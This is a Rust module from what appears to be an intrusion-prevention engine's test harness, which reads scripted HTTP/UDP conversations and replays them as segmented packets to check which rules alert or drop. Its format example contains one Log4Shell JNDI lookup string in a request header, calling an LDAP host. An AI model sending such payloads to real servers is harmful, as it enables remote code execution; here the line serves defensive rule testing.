//! Conversations beside rules: what is said, and what is to come of it.
//!
//! ```text
//! case: Log4Shell in a header          the name
//! drop: 9100001                        the rules that alert, all of them; `alert:` where the request goes on;
//!                                      `pass` where none alerts
//! port: 8080                           of the server; 80 where absent
//! > GET / HTTP/1.1                     a line of the client, CR LF behind it
//! > X-Api-Version: ${jndi:ldap://198.51.100.7/a}
//! > Content-Length: auto               the length of what follows the empty line
//! >
//! >| a=1&b=\x00                        no line end; \xNN, \r, \n, \t and \\ are bytes
//! < HTTP/1.1 200 OK                    a line of the server
//! ```
//!
//! A case is played as one TCP connection, or, with `udp: 53`, as datagrams: whole, in segments of [`TINY`] bytes, and
//! with each pair of segments turned around. What comes of it must be the same each time.

use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;

use crate::capture::Frame;
use crate::engine::Engine;
use crate::rules::RuleSet;
use crate::settings::Settings;
use crate::verdict::Verdict;

/// Bytes of a small segment.
pub const TINY: usize = 9;
const CLIENT: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 7);
const SERVER: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 80);
const FIRST_PORT: u16 = 40_000;

/// What is to come of a case.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Outcome {
    /// No rule alerts.
    Pass,
    /// These rules alert, and all goes on.
    Alert(Vec<u32>),
    /// These rules alert, and the connection ends there.
    Drop(Vec<u32>),
}

/// One conversation.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Case {
    /// Its name.
    pub name: String,
    /// What is to come of it.
    pub outcome: Outcome,
    /// The server's port.
    pub port: u16,
    /// As datagrams.
    pub udp: bool,
    /// Who speaks (true: the client) and what, in turn.
    pub turns: Vec<(bool, Vec<u8>)>,
}

/// How bytes are cut into segments.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Cut {
    /// As they are said.
    Whole,
    /// Small ones.
    Tiny,
    /// Small ones, each pair turned around.
    Swapped,
}

/// Reads the cases of a file.
///
/// # Errors
/// The first line that is wrong, from 1, and why.
pub fn read(text: &str) -> Result<Vec<Case>, (usize, String)> {
    let mut cases: Vec<Case> = Vec::new();
    for (at, line) in text.lines().enumerate() {
        let fail = |reason: &str| (at + 1, reason.to_owned());
        if let Some(name) = line.strip_prefix("case:") {
            let (name, outcome) = (name.trim().to_owned(), Outcome::Pass);
            cases.push(Case { name, outcome, port: 80, udp: false, turns: Vec::new() });
            continue;
        }
        if line.trim().is_empty() || line.starts_with('#') {
            continue;
        }
        let case = cases.last_mut().ok_or_else(|| fail("a case begins with its name"))?;
        if let Some((client, bytes)) = spoken(line) {
            let bytes = bytes.map_err(|reason| fail(&reason))?;
            match case.turns.last_mut() {
                Some((who, before)) if *who == client && !case.udp => before.extend(bytes),
                _ => case.turns.push((client, bytes)),
            }
            continue;
        }
        let (key, value) = line.split_once(':').unwrap_or((line, ""));
        let sids = || value.split_whitespace().map(str::parse).collect::<Result<Vec<u32>, _>>();
        match key.trim() {
            "pass" => case.outcome = Outcome::Pass,
            "alert" => case.outcome = Outcome::Alert(sids().map_err(|_| fail("rules are numbers"))?),
            "drop" => case.outcome = Outcome::Drop(sids().map_err(|_| fail("rules are numbers"))?),
            key @ ("port" | "udp") => {
                case.port = value.trim().parse().map_err(|_| fail("a port is a number"))?;
                case.udp = key == "udp";
            }
            _ => return Err(fail("expected case, pass, alert, drop, port, udp, or a line of > or <")),
        }
    }
    for case in &mut cases {
        case.turns.iter_mut().for_each(|(_, bytes)| fill_length(bytes));
    }
    Ok(cases)
}

/// A line of either side: whether it is the client's, and its bytes.
fn spoken(line: &str) -> Option<(bool, Result<Vec<u8>, String>)> {
    let client = match line.as_bytes().first()? {
        b'>' => true,
        b'<' => false,
        _ => return None,
    };
    let rest = line.get(1..)?;
    let (raw, rest) = rest.strip_prefix('|').map_or((false, rest), |rest| (true, rest));
    let rest = rest.strip_prefix(' ').unwrap_or(rest);
    Some((client, if raw { bytes_of(rest) } else { Ok([rest.as_bytes(), b"\r\n"].concat()) }))
}

fn bytes_of(text: &str) -> Result<Vec<u8>, String> {
    let mut out = Vec::new();
    let mut rest = text.as_bytes();
    while let Some((first, after)) = rest.split_first() {
        rest = after;
        if *first != b'\\' {
            out.push(*first);
            continue;
        }
        let (byte, used) = match after {
            [b'r', ..] => (b'\r', 1),
            [b'n', ..] => (b'\n', 1),
            [b't', ..] => (b'\t', 1),
            [b'\\', ..] => (b'\\', 1),
            [b'x', high, low, ..] => {
                let digit = |byte: &u8| char::from(*byte).to_digit(16).and_then(|digit| u8::try_from(digit).ok());
                let value = digit(high).zip(digit(low)).map(|(high, low)| high << 4 | low);
                (value.ok_or("\\x takes two hexadecimal digits")?, 3)
            }
            _ => return Err("a backslash stands before r, n, t, x or itself".into()),
        };
        out.push(byte);
        rest = after.get(used..).unwrap_or_default();
    }
    Ok(out)
}

/// The length of a body where its header leaves it open.
fn fill_length(bytes: &mut Vec<u8>) {
    const OPEN: &[u8] = b"Content-Length: auto";
    let Some(at) = memchr::memmem::find(bytes, OPEN) else { return };
    let Some(end) = memchr::memmem::find(bytes, b"\r\n\r\n") else { return };
    let length = bytes.len() - end - 4;
    bytes.splice(at + 16..at + OPEN.len(), length.to_string().into_bytes());
}

impl Case {
    /// Plays it; gives what is wrong.
    pub fn failures(&self, rules: &Arc<RuleSet>) -> Vec<String> {
        let cuts = if self.udp { &[Cut::Whole][..] } else { &[Cut::Whole, Cut::Tiny, Cut::Swapped] };
        let mut failures = Vec::new();
        for cut in cuts {
            let found = self.play(rules, *cut);
            if found != self.outcome {
                failures.push(format!("{}: {cut:?}: {found:?} and not {:?}", self.name, self.outcome));
            }
        }
        failures
    }

    /// What comes of it.
    pub fn play(&self, rules: &Arc<RuleSet>, cut: Cut) -> Outcome {
        self.play_in(&mut Engine::new(Settings::inline(), rules.clone()), 0, cut)
    }

    /// What comes of it in an engine that saw other conversations before: this is the `nth`.
    ///
    /// Each has a client's port of its own and begins ten seconds after the one before.
    pub fn play_in(&self, engine: &mut Engine, nth: u32, cut: Cut) -> Outcome {
        let mut table = Table::new(engine, nth, self.port, self.udp);
        if !self.udp {
            table.handshake();
        }
        for (client, bytes) in &self.turns {
            table.speak(*client, bytes, cut);
        }
        table.outcome()
    }
}

/// The two sides and the engine between them.
struct Table<'e> {
    engine: &'e mut Engine,
    /// Ports of the client and the server.
    from: u16,
    port: u16,
    udp: bool,
    /// Next number of each side, the client's first.
    next: [u32; 2],
    time: i64,
    number: u64,
    sids: Vec<u32>,
    stopped: bool,
}

impl<'e> Table<'e> {
    fn new(engine: &'e mut Engine, nth: u32, port: u16, udp: bool) -> Self {
        let from = FIRST_PORT + u16::try_from(nth % 20_000).unwrap_or_default();
        let time = 1_700_000_000_000_000 + i64::from(nth) * 10_000_000;
        let number = engine.counters().frames;
        Self { engine, from, port, udp, next: [1_000, 9_000], time, number, sids: Vec::new(), stopped: false }
    }

    fn handshake(&mut self) {
        const SYN: u8 = 2;
        const ACK: u8 = 16;
        self.segment(true, 1_000, 0, SYN, &[]);
        self.segment(false, 9_000, 1_001, SYN | ACK, &[]);
        self.next = [1_001, 9_001];
        self.segment(true, 1_001, 9_001, ACK, &[]);
    }

    fn speak(&mut self, client: bool, bytes: &[u8], cut: Cut) {
        if self.udp {
            return self.frame(client, &datagram(client, self.from, self.port, bytes), 17);
        }
        let [ours, theirs] = if client { self.next } else { [self.next[1], self.next[0]] };
        let mut parts: Vec<(u32, &[u8])> = Vec::new();
        let mut seq = ours;
        for part in bytes.chunks(if cut == Cut::Whole { 1_400 } else { TINY }) {
            parts.push((seq, part));
            seq = seq.wrapping_add(u32::try_from(part.len()).unwrap_or(0));
        }
        if cut == Cut::Swapped {
            parts.chunks_mut(2).for_each(<[_]>::reverse);
        }
        for (seq, part) in parts {
            self.segment(client, seq, theirs, 24, part);
        }
        self.next = if client { [seq, theirs] } else { [theirs, seq] };
        // The other side has it.
        self.segment(!client, theirs, seq, 16, &[]);
    }

    fn segment(&mut self, client: bool, seq: u32, ack: u32, flags: u8, payload: &[u8]) {
        let (from, to) = if client { (self.from, self.port) } else { (self.port, self.from) };
        let mut tcp = [from.to_be_bytes(), to.to_be_bytes()].concat();
        tcp.extend(seq.to_be_bytes());
        tcp.extend(ack.to_be_bytes());
        tcp.extend([0x50, flags, 0xff, 0xff, 0, 0, 0, 0]);
        tcp.extend(payload);
        self.frame(client, &tcp, 6);
    }

    fn frame(&mut self, client: bool, body: &[u8], proto: u8) {
        if self.stopped {
            return;
        }
        let (src, dst) = if client { (CLIENT, SERVER) } else { (SERVER, CLIENT) };
        let mut packet = vec![0x45, 0];
        packet.extend(u16::try_from(20 + body.len()).unwrap_or(u16::MAX).to_be_bytes());
        packet.extend([0, 1, 0x40, 0, 64, proto, 0, 0]);
        packet.extend(src.octets());
        packet.extend(dst.octets());
        packet.extend(body);
        self.time += 1_000;
        self.number += 1;
        let frame = Frame { time: self.time, link: 101, data: &packet, cut: false, vouched: true };
        let mut alerts = Vec::new();
        let verdict = self.engine.frame(&frame, self.number, &mut alerts);
        self.sids.extend(alerts.iter().map(|alert| alert.rule.sid));
        self.stopped = matches!(verdict, Verdict::DropFlow | Verdict::Reject) || (self.udp && !verdict.accepts());
    }

    fn outcome(mut self) -> Outcome {
        self.sids.sort_unstable();
        self.sids.dedup();
        match (self.sids.is_empty(), self.stopped) {
            (true, false) => Outcome::Pass,
            (_, true) => Outcome::Drop(self.sids),
            (false, false) => Outcome::Alert(self.sids),
        }
    }
}

fn datagram(client: bool, own: u16, port: u16, payload: &[u8]) -> Vec<u8> {
    let (from, to) = if client { (own, port) } else { (port, own) };
    let mut udp = [from.to_be_bytes(), to.to_be_bytes()].concat();
    udp.extend(u16::try_from(8 + payload.len()).unwrap_or(u16::MAX).to_be_bytes());
    udp.extend([0, 0]);
    udp.extend(payload);
    udp
}

/// Who attacks in a case, for tests of what an alert says.
pub fn client() -> IpAddr {
    CLIENT.into()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::LoadOptions;

    const TEXT: &str = "# two\ncase: bad\ndrop: 1\n> POST /a HTTP/1.1\n> Content-Length: auto\n>\n>| x=\\x42AD\ncase: good\npass\nport: 81\n> GET / HTTP/1.1\n>\n< HTTP/1.1 204 No\n<\n";

    #[test]
    fn a_file_is_read_and_its_lines_are_bytes() {
        let cases = read(TEXT).unwrap();
        assert_eq!(cases[0].turns, [(true, b"POST /a HTTP/1.1\r\nContent-Length: 5\r\n\r\nx=BAD".to_vec())]);
        assert_eq!((cases[1].port, cases[1].turns.len(), &cases[1].outcome), (81, 2, &Outcome::Pass));
        assert_eq!(read("pass").unwrap_err().0, 1);
        assert_eq!(read("case: a\n\nnonsense").unwrap_err().0, 3);
        assert_eq!(read("case: a\n>| \\x4").unwrap_err().0, 2);
    }

    #[test]
    fn what_comes_of_it_is_the_same_however_it_is_cut_and_a_wrong_expectation_fails() {
        let rule = "drop http any any -> any any (http.request_body; content:\"BAD\"; sid:1;)";
        let rules = Arc::new(RuleSet::load(&[("f", rule)], &LoadOptions::default(), &|_| None));
        let mut cases = read(TEXT).unwrap();
        for case in &cases {
            assert_eq!(case.failures(&rules), Vec::<String>::new());
        }
        let mut engine = Engine::new(Settings::inline(), rules.clone());
        let turns = [&cases[0], &cases[1], &cases[0]].into_iter().zip(0..);
        let one_after_the_other: Vec<Outcome> =
            turns.map(|(case, nth)| case.play_in(&mut engine, nth, Cut::Whole)).collect();
        assert_eq!(one_after_the_other, [Outcome::Drop(vec![1]), Outcome::Pass, Outcome::Drop(vec![1])]);
        cases[1].outcome = Outcome::Alert(vec![1]);
        assert_eq!(cases[1].failures(&rules).len(), 3);
    }
}
